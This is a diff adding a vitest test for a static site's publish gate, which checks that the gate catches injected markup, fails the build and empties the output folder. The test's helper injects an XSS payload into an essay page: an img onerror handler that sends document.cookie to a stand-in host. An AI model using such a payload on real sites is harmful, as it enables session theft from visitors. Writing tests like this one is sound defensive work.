@@ -1,0 +1,55 @@
+/**
+ * The publish gate over the built site: every page the build writes passes it, and a page that
+ * carried markup the site did not write would fail the build, naming the page and its source file.
+ */
+import { cpSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { pathToFileURL } from 'node:url';
+import { describe, expect, it, vi } from 'vitest';
+import { publishGate, scanBuiltSite } from '../../src/integrations/publish-gate.ts';
+import { DIST, TEST_DIR } from '../helpers/site.ts';
+
+const ESSAY = 'essays/learning-to-learn-from-each-other/index.html';
+
+/** A copy of the built site with one essay page tampered with. */
+function tamperedCopy(name: string): string {
+  const copy = path.join(TEST_DIR, name);
+  rmSync(copy, { recursive: true, force: true });
+  mkdirSync(copy, { recursive: true });
+  cpSync(path.join(DIST, 'essays'), path.join(copy, 'essays'), { recursive: true });
+  const file = path.join(copy, ESSAY);
+  const html = readFileSync(file, 'utf8').replace('<div class="prose', '<img src="x" onerror="fetch(`//example.org/?`+document.cookie)"><script>document.title = 1</script><div class="prose');
+  writeFileSync(file, html);
+  return copy;
+}
+
+describe('the publish gate', () => {
+  it('passes every page of the built site', () => {
+    expect(scanBuiltSite(DIST)).toEqual([]);
+  });
+
+  it('finds a script and an event handler slipped into a page, naming the page and its source file', () => {
+    const copy = tamperedCopy('gate-scan');
+    const found = scanBuiltSite(copy).map((p) => `${p.file} ${p.rule} ${p.message}`);
+    const page = path.relative(process.cwd(), path.join(copy, ESSAY));
+    expect(found).toEqual([
+      `${page} page/event-handler <img> has an event handler, onerror (made from content/essays/learning-to-learn-from-each-other.mdx)`,
+      `${page} page/foreign-script an inline script the site did not write (its hash is not one of the site's own) (made from content/essays/learning-to-learn-from-each-other.mdx)`,
+    ]);
+  });
+
+  it('fails the build and empties the output folder, so nothing unsafe is served or uploaded', async () => {
+    const copy = tamperedCopy('gate-hook');
+    const exit = vi.spyOn(process, 'exit').mockImplementation(() => undefined as never);
+    const errors: string[] = [];
+    const logger = { error: (message: string) => errors.push(message) };
+    const hook = publishGate().hooks['astro:build:done'] as unknown as (options: { dir: URL; logger: typeof logger }) => void;
+    hook({ dir: pathToFileURL(`${copy}/`), logger });
+    const calls = exit.mock.calls.slice();
+    exit.mockRestore();
+    expect(calls).toEqual([[1]]);
+    expect(existsSync(copy)).toBe(false);
+    expect(errors.join('\n')).toContain('page/foreign-script');
+    expect(errors.join('\n')).toContain('nothing was published');
+  });
+});
